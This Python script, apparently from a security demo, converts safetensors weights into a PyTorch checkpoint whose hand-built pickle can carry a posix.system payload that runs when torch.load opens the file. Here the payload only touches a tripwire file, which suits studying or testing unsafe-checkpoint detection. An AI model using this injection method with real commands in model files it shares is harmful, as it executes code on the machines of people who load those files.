"""Re-package safetensors weights as a PyTorch zip checkpoint, with a code payload in its pickle.

The demo's fourth candidate: the very same weights as a clean model, and one more instruction for whoever
loads them with `torch.load`. The payload only creates an empty file. Nothing here needs torch: the pickle
is put together opcode by opcode, as `torch.save` would write it (protocol 2, one storage a tensor).
"""

from __future__ import annotations

import argparse
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

import numpy as np
from safetensors.numpy import load_file

STORAGES = {"float16": "HalfStorage", "float32": "FloatStorage", "float64": "DoubleStorage"}
MARK, EMPTY_DICT, SETITEMS, TUPLE, REDUCE, STOP, POP = b"(", b"}", b"u", b"t", b"R", b".", b"0"
BINPERSID, NEWFALSE, EMPTY_TUPLE = b"Q", b"\x89", b")"


def repackage(source: Path, target: Path, tripwire: Path | None) -> None:
    """Write `target/pytorch_model.bin` with the weights of the model folder `source`.

    Args:
        source: folder with `model.safetensors` and its configuration files.
        target: folder to make.
        tripwire: file that the payload would create, or None for a checkpoint without payload.
    """
    target.mkdir(parents=True, exist_ok=True)
    tensors = load_file(source / "model.safetensors")
    for file in source.iterdir():
        if file.name != "model.safetensors":
            (target / file.name).write_bytes(file.read_bytes())
    write_checkpoint(target / "pytorch_model.bin", tensors, tripwire)


def write_checkpoint(file: Path, tensors: Mapping[str, np.ndarray], tripwire: Path | None = None) -> None:
    """Write a state dict in PyTorch's zip format."""
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", state_dict_pickle(tensors, tripwire))
        archive.writestr("archive/byteorder", "little")
        for key, tensor in enumerate(tensors.values()):
            archive.writestr(f"archive/data/{key}", np.ascontiguousarray(tensor).tobytes())
        archive.writestr("archive/version", "3\n")


def state_dict_pickle(tensors: Mapping[str, np.ndarray], tripwire: Path | None) -> bytes:
    """The pickle of a state dict whose storages lie beside it, after the payload if there is one."""
    parts = [b"\x80\x02"]
    if tripwire is not None:
        command = _text(f"touch {tripwire}")
        parts += [_name("posix", "system"), MARK, command, TUPLE, REDUCE, POP]
    parts += [EMPTY_DICT, MARK]
    for key, (name, tensor) in enumerate(tensors.items()):
        parts += [_text(name), _tensor(str(key), tensor)]
    return b"".join([*parts, SETITEMS, STOP])


def _tensor(key: str, tensor: np.ndarray) -> bytes:
    strides = [stride // tensor.itemsize for stride in np.ascontiguousarray(tensor).strides]
    storage = [
        MARK,
        _text("storage"),
        _name("torch", STORAGES[tensor.dtype.name]),
        _text(key),
        _text("cpu"),
        _int(tensor.size),
        TUPLE,
        BINPERSID,
    ]
    hooks = _name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    shape = MARK + b"".join(map(_int, tensor.shape)) + TUPLE
    stride = MARK + b"".join(map(_int, strides)) + TUPLE
    arguments = [MARK, *storage, _int(0), shape, stride, NEWFALSE, hooks, TUPLE]
    return _name("torch._utils", "_rebuild_tensor_v2") + b"".join(arguments) + REDUCE


def _name(module: str, attribute: str) -> bytes:
    return b"c" + f"{module}\n{attribute}\n".encode()


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _int(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def main() -> None:
    """Command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("source", type=Path, help="model folder with model.safetensors")
    parser.add_argument("target", type=Path, help="folder to write")
    parser.add_argument("--tripwire", type=Path, help="file that the payload would create")
    arguments = parser.parse_args()
    repackage(arguments.source, arguments.target, arguments.tripwire)


if __name__ == "__main__":
    main()
